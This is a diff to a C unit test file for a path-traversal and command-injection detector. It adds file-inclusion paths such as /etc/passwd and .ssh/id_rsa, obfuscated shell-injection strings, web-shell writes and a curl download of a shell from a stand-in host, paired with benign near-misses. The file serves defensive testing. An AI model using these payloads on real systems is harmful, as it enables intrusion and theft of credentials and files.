@@ -389,6 +389,29 @@ static void traversal_cases(void **state)
     assert_false(TRAV("//cdn.example.com/img/banner.jpg"));
     assert_false(TRAV("https://example.com/a/b?c=d"));
     assert_false(TRAV("C:\\fakepath\\photo.jpg"));
+    /* file inclusion without climbing: system folders, secret files, stream wrappers */
+    assert_true(TRAV("/etc/passwd"));
+    assert_true(TRAV("//etc//nginx//nginx.conf"));
+    assert_true(TRAV("/proc/self/environ"));
+    assert_true(TRAV("/var/log/apache2/access.log"));
+    assert_true(TRAV("C:\\Windows\\win.ini"));
+    assert_true(TRAV("c:/inetpub/wwwroot/web.config"));
+    assert_true(TRAV("%SYSTEMROOT%\\system32\\drivers\\etc\\hosts"));
+    assert_true(TRAV("/home/ubuntu/.ssh/id_rsa"));
+    assert_true(TRAV("php://filter/convert.base64-encode/resource=index.php"));
+    assert_true(TRAV("PHP://input"));
+    assert_true(TRAV("phar://uploads/a.jpg/x"));
+    assert_true(TRAV("data://text/plain;base64,PD9waHA="));
+    assert_true(TRAV("expect://id"));
+    assert_true(TRAV("\xf0\x80\x80\xae\xf0\x80\x80\xae/etc/x"));
+    assert_false(TRAV("/etc"));
+    assert_false(TRAV("/var/folders"));
+    assert_false(TRAV("/account/settings"));
+    assert_false(TRAV("C:\\Users\\Public\\file.txt"));
+    assert_false(TRAV("php.ini"));
+    assert_false(TRAV("learn php: the basics"));
+    assert_false(TRAV("data: 3 rows"));
+    assert_false(TRAV("/docs/config.php"));
     /* request paths: only climbing above the root and encoded tricks */
     assert_true(TRAVP("/static/../../etc/passwd"));
     assert_true(TRAVP("/a/..\xc0\xaf..\xc0\xaf"));
@@ -411,6 +434,32 @@ static void cmdi_cases(void **state)
         "';system('id')",
         "${IFS}cat${IFS}/etc/passwd",
         "& dir c:\\",
+        /* shell grammar without the classic forms */
+        "x\r/usr/bin/id",
+        "a b\nuname -a#",
+        ";w'h'o'am'i",
+        "|c${u}at /etc/passwd",
+        "&&wh\\oami",
+        ";cat$IFS$9/etc/passwd",
+        "${PATH:0:1}etc${PATH:0:1}passwd",
+        "|/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
+        ";{cat,/etc/passwd}",
+        "<(uname -a)",
+        "$(printf 'x')",
+        /* Windows commands in any case */
+        "127.0.0.1&IPCONFIG /all",
+        "x|Net User",
+        "'& FINDSTR /si password *.xml",
+        "a\nreg query HKLM\\Software",
+        "1||ver",
+        /* process functions and web shells */
+        "__import__('os').system('id')",
+        "require('child_process').exec('ls')",
+        "java.lang.Runtime.getRuntime().exec('id')",
+        "system($_GET['c']);",
+        "echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php",
+        "; echo PD9w | base64 -d > shell.php",
+        "curl -o shell.php http://x.example.com/s.txt",
     };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
         if (!CMDI(bad[i]))
@@ -421,6 +470,11 @@ static void cmdi_cases(void **state)
         "Tom & Jerry",    "salt & pepper", "Name & ID", "AT&T",           "cat food",
         "rm -rf meaning", "Sleep & Relax", "ping pong", "R&D; Q&A",       "echo dot",
         "Blood & type 2", "a | b",         "ls engine", "dog & cat toys",
+        /* near misses of the forms above */
+        "{id}", "user {name}", "Shift & Cmd", "Tom & Ver", "a > b", "price > 5.php",
+        "Save & Type /news", "the system's design", "exec(utive) summary", "R&D; Reg",
+        "I can't 'see' it", "it's o'clock", "$5 {sale}", "/\?\?/", "curl up",
+        "we'd like", "don't 'stop' me",
     };
     for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
         if (CMDI(ok[i]))
